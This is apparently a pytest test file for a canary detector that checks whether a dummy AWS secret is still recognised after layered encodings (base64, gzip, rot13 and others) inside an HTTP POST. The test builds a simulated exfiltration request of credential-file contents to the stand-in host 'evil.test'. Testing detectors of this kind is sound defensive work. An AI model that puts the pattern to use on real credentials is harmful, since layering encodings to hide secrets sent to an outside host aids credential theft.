"""A stolen secret is recognised however it was dressed, and nothing else is taken for it."""

from __future__ import annotations

import base64
import codecs
import gzip
import json
import urllib.parse
import zlib
from collections.abc import Callable

import pytest
from hypothesis import given
from hypothesis import strategies as st

from stockade.drills.canary import carries

SECRET = "aws-canary-0123456789abcdef01"
FILE = f"[default]\naws_access_key_id = AKIADRILL\naws_secret_access_key = {SECRET}\n".encode()
DRESSES: dict[str, Callable[[bytes], bytes]] = {
    "plain": lambda data: data,
    "base64": base64.b64encode,
    "url-safe base64": base64.urlsafe_b64encode,
    "hex": lambda data: data.hex().encode(),
    "upper hex": lambda data: data.hex().upper().encode(),
    "base32": base64.b32encode,
    "gzip": gzip.compress,
    "zlib": zlib.compress,
    "reversed": lambda data: data[::-1],
    "rot13": lambda data: codecs.encode(data.decode("latin-1"), "rot13").encode("latin-1"),
    "percent": lambda data: urllib.parse.quote_from_bytes(data).encode(),
    "json": lambda data: json.dumps({"log": base64.b64encode(data).decode()}).encode(),
    "wrapped base64": base64.encodebytes,
}


@pytest.mark.parametrize("outer", DRESSES)
@pytest.mark.parametrize("inner", DRESSES)
def test_two_layers_are_undone(inner: str, outer: str) -> None:
    dressed = DRESSES[outer](DRESSES[inner](FILE))
    assert carries(b"POST /x HTTP/1.1\r\nHost: evil.test\r\n\r\n" + dressed + b"\n", SECRET)


@given(st.binary(max_size=300))
def test_other_bytes_are_not_taken_for_it(data: bytes) -> None:
    assert not carries(data, SECRET)


def test_another_run_s_secret_is_not_this_one() -> None:
    assert not carries(base64.b64encode(FILE.replace(b"abcdef01", b"abcdef02")), SECRET)
